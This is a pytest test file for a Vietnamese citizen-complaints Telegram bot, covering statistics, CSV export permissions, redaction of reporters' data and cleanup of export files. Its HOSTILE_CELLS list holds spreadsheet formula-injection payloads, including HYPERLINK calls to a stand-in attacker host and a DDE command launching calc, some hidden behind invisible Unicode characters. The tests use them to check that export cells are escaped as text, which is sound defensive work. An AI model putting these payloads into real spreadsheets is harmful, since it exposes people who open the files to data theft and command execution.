"""/stats against a hand-computed example (with an overdue open report and a reopened one),
and /export with and without personal data."""

from __future__ import annotations

import csv
import os
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from PIL import Image

from bot.clock_worker import ClockWorker
from complaints import answers, routing
from complaints.events import Actor
from handlers.dispatcher import Policy
from handlers.services import Services
from storage.users import get_or_create_user
from tests.chat import Chat
from tests.queue import advance, file_report, report_in
from tests.staff import ADMIN, CITIZEN, HEAD_CA, MODERATOR, OFFICER_CA, START, staffed_chat

OFFICER = Actor(None, "officer")
NOW = datetime(2026, 3, 25, 3, 0, tzinfo=UTC)  # Wednesday 25/03, 10:00 in Vietnam


@pytest.fixture
async def chat(sessions, tmp_path: Path) -> Chat:
    policy = Policy(admins=frozenset({("telegram", ADMIN)}))
    return await staffed_chat(sessions, tmp_path, policy=policy)


async def _answer(sessions, code: str, at: datetime, satisfied: bool) -> None:
    rules = Services.default().rules
    async with sessions() as session, session.begin():
        report = await report_in(session, code)
        await answers.answer(session, report, "Đã xử lý", OFFICER, at)
        await answers.rate(session, rules, report, satisfied, Actor(None, "citizen"), at)


async def example(sessions) -> dict[str, str]:
    """Five reports filed on Monday 02/03, answers due Monday 16/03 17:00:

    A (CA) answered Thursday 05/03 (3 working days), satisfied;
    B (CA) answered Friday 20/03 (14 working days, late), not satisfied, so reopened with a
      new deadline that must not make its first answer look punctual;
    C (CA) never answered: open and overdue;
    D moved from CA to STP on 03/03, never answered: overdue at STP, a transfer for CA;
    E never moderated.
    """
    codes = {
        name: await file_report(sessions, START, user=f"1{i}") for i, name in enumerate("ABCDE")
    }
    for name in "ABCD":
        await advance(sessions, codes[name], START, department="CA")
    await _answer(sessions, codes["A"], START + timedelta(days=3), satisfied=True)
    await _answer(sessions, codes["B"], START + timedelta(days=18), satisfied=False)
    async with sessions() as session, session.begin():
        report = await report_in(session, codes["D"])
        await routing.reassign(
            session,
            Services.default().rules,
            report,
            "STP",
            "Nội dung thuộc lĩnh vực tư pháp hộ tịch",
            Actor(None, "moderator"),
            START + timedelta(days=1),
        )
    return codes


async def test_stats_match_the_hand_computed_example(sessions, chat) -> None:
    await example(sessions)
    chat.clock.now = NOW
    [stats, chart] = await chat.say("/stats 30d", user=MODERATOR)
    lines = stats.text.split("\n\n")
    assert lines[0] == "Thống kê phản ánh gửi trong 30 ngày qua (từ 10:00 ngày 23/02/2026):"
    assert lines[1] == (
        "Tổng: nhận 5 · đã trả lời 2 · đúng hạn 25% (1/4) · quá hạn chưa trả lời 2"
        " · trung vị 8,5 ngày làm việc · chuyển đi 1 · mở lại 1 · hài lòng 50% (1/2)"
    )
    assert lines[2] == (
        "CA — Công an tỉnh Quảng Trị: nhận 3 · đã trả lời 2 · đúng hạn 33,3% (1/3)"
        " · quá hạn chưa trả lời 1 · trung vị 8,5 ngày làm việc · chuyển đi 1 · mở lại 1"
        " · hài lòng 50% (1/2)"
    )
    assert lines[3] == (
        "STP — Sở Tư pháp: nhận 1 · đã trả lời 0 · đúng hạn 0% (0/1) · quá hạn chưa trả lời 1"
        " · trung vị — ngày làm việc · chuyển đi 0 · mở lại 0 · hài lòng —"
    )
    assert "#" not in stats.text  # fewer than 5 reports: no ranking
    [picture] = chart.files
    assert picture.kind == "photo" and chart.text.startswith("Biểu đồ: trên là tỷ lệ")
    with Image.open(picture.path) as image:
        assert image.format == "PNG" and image.width == 900
        assert len(image.getcolors(maxcolors=100_000) or ()) > 3  # drawn, not a blank canvas


async def test_stats_periods_and_who_may_ask(sessions, chat) -> None:
    await example(sessions)
    chat.clock.now = NOW
    [recent] = await chat.say("/stats 7d", user=HEAD_CA)
    assert recent.text == "Chưa có phản ánh nào trong khoảng thời gian này."
    [everything, chart] = await chat.say("/stats all", user=ADMIN, locale="en")
    assert chart.text.startswith("Chart: above, each department's on-time share")
    assert everything.text.startswith("All reports:\n\nTotal: received 5")
    assert "on time 33.3% (1/3)" in everything.text
    [usage] = await chat.say("/stats yesterday", user=MODERATOR)
    assert usage.text.startswith("Cách dùng: /stats")
    for user in (CITIZEN, OFFICER_CA):
        for command in ("/stats", "/export"):
            [refused] = await chat.say(command, user=user)
            assert refused.text.startswith("Bạn không có quyền"), (user, command)


def _text(path: str) -> str:
    return Path(path).read_text("utf-8-sig")


def _rows(path: str) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


async def test_export_has_personal_data_only_for_admins(sessions, chat) -> None:
    codes = await example(sessions)
    chat.clock.now = NOW
    [plain] = await chat.say("/export", user=MODERATOR)
    [file] = plain.files
    assert file.kind == "document" and file.name.endswith(".csv") and "5" in plain.text
    rows = _rows(file.path)
    assert [r["code"] for r in rows] == list(codes.values())
    raw = _text(file.path)
    assert "reporter_phone" not in rows[0] and "0912345678" not in raw and "Nguyễn" not in raw
    by_code = {r["code"]: r for r in rows}
    assert by_code[codes["D"]]["department"] == "STP" and by_code[codes["D"]]["transfers"] == "1"
    assert by_code[codes["B"]]["state"] == "reopened" and by_code[codes["B"]]["satisfied"] == "0"

    [personal] = await chat.say("/export all", user=ADMIN)
    rows = _rows(personal.files[0].path)
    assert rows[0]["reporter_name"] == "Nguyễn Văn An" and rows[0]["reporter_phone"] == "0912345678"
    assert "0912345678" in rows[0]["story"]
    [usage] = await chat.say("/export soon", user=MODERATOR)
    assert usage.text.startswith("Cách dùng: /export")


async def test_a_moderators_export_hides_the_reporter_in_the_office_they_typed(
    sessions, chat
) -> None:
    """The office is typed freely in the dialogue («phường 1, hỏi chị Hoa 0905…»): as the
    story, a moderator's spreadsheet has it without the phone, the address or the name."""
    code = await file_report(sessions, START, description="bị đòi tiền")
    async with sessions() as session, session.begin():
        report = await report_in(session, code)
        report.office_text = "phường 1, gọi Nguyễn Thị Hoa 0905123456 hoa@gmail.com"
        report.reporter_name = "Nguyễn Thị Hoa"
    chat.clock.now = NOW
    [sent] = await chat.say("/export", user=MODERATOR)
    [row] = _rows(sent.files[0].path)
    assert row["office_text"].startswith("phường 1, gọi ")
    for private in ("Hoa", "0905123456", "gmail"):
        assert private not in row["office_text"]
    [sent] = await chat.say("/export", user=ADMIN)
    [row] = _rows(sent.files[0].path)
    assert "0905123456" in row["office_text"]


async def test_a_moderators_export_hides_an_anonymous_reporters_display_name(
    sessions, chat
) -> None:
    """gopy knows the name on the citizen's profile: written in the story, it is theirs."""
    async with sessions() as session, session.begin():
        await get_or_create_user(session, "telegram", "250", "Phạm Thị Hoa")
    story = "Phạm Thị Hoa ở tổ 5 bị đòi tiền, mua hoa biếu"
    await file_report(sessions, START, user="250", named=False, description=story)
    chat.clock.now = NOW
    [sent] = await chat.say("/export", user=MODERATOR)
    [row] = _rows(sent.files[0].path)
    assert row["story"] == "[người phản ánh] ở tổ 5 bị đòi tiền, mua hoa biếu"


async def test_export_files_are_deleted_a_day_later(sessions, chat, tmp_path: Path) -> None:
    """An admin's export holds personal data: the file is only the way to the chat."""
    folder = tmp_path / "exports"
    folder.mkdir()
    yesterday = folder / "gopy-reports-20260324-090000-aaaa.csv"
    an_hour_ago = folder / "gopy-reports-20260325-090000-bbbb.csv"
    for path, age in ((yesterday, timedelta(days=1, minutes=1)), (an_hour_ago, timedelta(hours=1))):
        path.write_text("code\n")
        stamp = (NOW - age).timestamp()
        os.utime(path, (stamp, stamp))
    chat.clock.now = NOW
    [sent] = await chat.say("/export", user=MODERATOR)
    left = {path.name for path in folder.iterdir()}
    assert left == {sent.files[0].name, an_hour_ago.name}  # the new one waits for the outbox

    stamp = NOW.timestamp()  # the new file was written at NOW, by the test's clock
    os.utime(folder / sent.files[0].name, (stamp, stamp))
    services = Services(Services.default().rules, exports_dir=folder)
    worker = ClockWorker(sessions, services, clock=lambda: NOW + timedelta(days=2))
    await worker.tick()
    assert list(folder.iterdir()) == []


HOSTILE_CELLS = (
    '=HYPERLINK("http://attacker.invalid/?"&A1,"bấm")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\u00a0=1+1",
    "\u200b\u2009=1+1",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "−1+cmd",
    # what shows nothing before the sign: direction marks, a soft hyphen, fillers, line breaks
    '\u200e=HYPERLINK("http://attacker.invalid/?"&A1,"bấm")',
    "\u202e\u2066+SUM(1,2)",
    "\u00ad-2+3+cmd|' /C calc'!A0",
    "\u180e\u3164@SUM(A1:A9)",
    "\n=1+1",
    "\x0b\x0c=1+1",
    "\u2028＝1+1",
)


@pytest.mark.parametrize(
    ("story", "reporter"),
    list(zip(HOSTILE_CELLS, HOSTILE_CELLS[1:] + HOSTILE_CELLS[:1], strict=True)),
)
async def test_export_cells_cannot_run_as_formulas(
    sessions, chat, story: str, reporter: str
) -> None:
    """A story, an office and a name a spreadsheet would run are exported as text (the name
    another cell than the story: a story holding the reporter's name has it hidden)."""
    code = await file_report(sessions, START, description=story)
    async with sessions() as session, session.begin():
        report = await report_in(session, code)
        report.office_text = story
        report.reporter_name = reporter
    chat.clock.now = NOW
    for user in (MODERATOR, ADMIN):
        [sent] = await chat.say("/export", user=user)
        [row] = _rows(sent.files[0].path)
        assert row["story"] == "'" + story
        assert row["office_text"] == "'" + story
        if user == ADMIN:
            assert row["reporter_name"] == "'" + reporter
        for name, cell in row.items():
            assert not cell or cell[0] not in "=+-@\t\r＝＋－＠﹦﹢﹣﹫−", (name, cell)


def test_numbers_are_not_mangled() -> None:
    from complaints.spreadsheet import safe_cell

    assert safe_cell(-1) == -1
    assert safe_cell("-1") == "-1"
    assert safe_cell("+84912345678") == "+84912345678"
    assert safe_cell("-1,5") == "-1,5"
    assert safe_cell("Cán bộ - phường 1") == "Cán bộ - phường 1"
    assert safe_cell("-1+1") == "'-1+1"
